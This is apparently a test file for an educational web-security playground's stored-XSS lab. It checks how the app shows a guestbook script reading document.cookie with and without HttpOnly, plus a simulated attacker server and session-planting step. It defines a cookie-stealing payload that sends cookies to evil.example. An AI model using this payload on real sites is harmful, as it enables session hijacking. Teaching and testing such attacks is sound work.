// @vitest-environment jsdom
/**
 * Lab 15 on screen: the browser frame says what a page script read and where it sent it (a
 * status region), the Network panel lists the simulated cross-site request, and the attacker's
 * server lists what arrived, with a button that plants it in the browser in front.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { act, screen, within } from '@testing-library/react';
import { renderApp, startMsw, openPanel } from './helpers';

let stop: () => void;
beforeAll(() => {
  stop = startMsw();
});
afterAll(() => stop());

type AppWorld = ReturnType<typeof renderApp>['world'];
const STEAL = "<script>new Image().src='http://evil.example/steal?c='+document.cookie</script>";

/** Mallory (B) plants the script; Alice (A) logs in and reads the guestbook. */
async function victimReads(world: AppWorld, message = STEAL) {
  await act(async () => {
    world.addTab();
    await world.navigate('B', '/myapp/guestbook/');
    await world.submitForm('B', 0, { message });
    await world.navigate('A', '/myapp/connection/');
    await world.submitForm('A', 0, { username: 'alice', password: 'x' });
    await world.navigate('A', '/myapp/guestbook/');
    world.setActiveTab('A');
  });
}

const notice = (region = 'Page shown in browser A', label = 'Scripts on this page') =>
  within(screen.getByRole('region', { name: region })).getByRole('status', { name: label });

describe('a page script in the browser frame', () => {
  it('with HttpOnly, says the script read an empty document.cookie', async () => {
    const { world } = renderApp();
    await victimReads(world);
    expect(notice()).toHaveTextContent(
      "A script on this page read document.cookie: '' (empty: the session cookie sessionid is HttpOnly).",
    );
    expect(notice()).toHaveTextContent(
      'It sent that to evil.example: the attacker got an empty value (simulated: nothing left the page).',
    );
  });

  it('without HttpOnly, shows the theft in the frame, in Network and on the attacker’s server', async () => {
    const { world, user } = renderApp();
    act(() => void world.applySettings({ SESSION_COOKIE_HTTPONLY: false }));
    await victimReads(world);
    const key = world.tab('A').browser.jar.all()[0]?.value as string;
    expect(notice()).toHaveTextContent(
      `A script on this page read document.cookie: 'sessionid=${key}'. It sent it to evil.example: the attacker now has it`,
    );
    await openPanel(user, 'Network');
    const panel = screen.getByRole('tabpanel', { name: 'Network' });
    const entry = within(panel).getByRole('button', { name: new RegExp(`sessionid=${key}`) });
    expect(entry).toHaveTextContent(
      `GET evil.example/steal?c=sessionid=${key} 204A simulated, not sent`,
    );
    expect(entry).toHaveAttribute('aria-pressed', 'true'); // the last entry is shown
    expect(panel).toHaveTextContent('The playground sends it nowhere: evil.example is simulated');
    expect(panel).toHaveTextContent('nobody: evil.example is simulated');
    const attacker = within(panel).getByRole('region', {
      name: "Attacker's server (evil.example, simulated)",
    });
    expect(attacker).toHaveTextContent(`sessionid=${key}`);
    act(() => world.setActiveTab('B'));
    await user.click(within(attacker).getByRole('button', { name: 'Plant in browser B' }));
    expect(world.tab('B').browser.jar.all()).toMatchObject([{ name: 'sessionid', value: key }]);
    await user.click(within(attacker).getByRole('button', { name: "Clear the attacker's list" }));
    expect(world.stolen).toEqual([]);
    expect(within(panel).queryByRole('region', { name: /Attacker/ })).toBeNull();
  });

  it('says a script of any other kind was not run, in Bangla too', async () => {
    const { world } = renderApp({ lang: 'bn' });
    await victimReads(world, '<script>alert(1)</script>');
    expect(notice('ব্রাউজার A-তে দেখানো পেজ', 'এই পেজের স্ক্রিপ্ট')).toHaveTextContent(
      'এই পেজের একটা স্ক্রিপ্ট চালানো হয়নি (প্লেগ্রাউন্ড পেজের কোনো স্ক্রিপ্ট কখনো চালায় না)।',
    );
    expect(world.stolen).toEqual([]);
  });

  it('says nothing on a page without scripts (the status region stays empty)', async () => {
    const { world } = renderApp();
    await act(async () => {
      await world.navigate('A', '/myapp/connection/');
    });
    expect(notice()).toBeEmptyDOMElement();
  });
});
